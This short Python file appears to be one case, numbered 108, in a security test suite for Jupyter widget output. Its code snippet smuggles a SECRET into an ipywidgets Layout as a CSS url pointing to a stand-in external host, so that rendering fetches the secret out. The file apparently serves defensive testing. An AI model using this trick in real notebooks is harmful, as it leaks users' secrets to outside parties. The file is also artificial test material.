"""Attack 108: widget layout"""

IDEA = "A layout that fetches."
SOURCE = "ipywidgets, Layout"
WAY = "iopub/comm_open/data"
CODE = r"""
import ipywidgets

box = ipywidgets.Label(
    "x", layout=ipywidgets.Layout(grid_area="url(//example.org/%s)" % SECRET, width="\\%s" % SECRET)
)
"""
ABSENT = ["SECRET"]
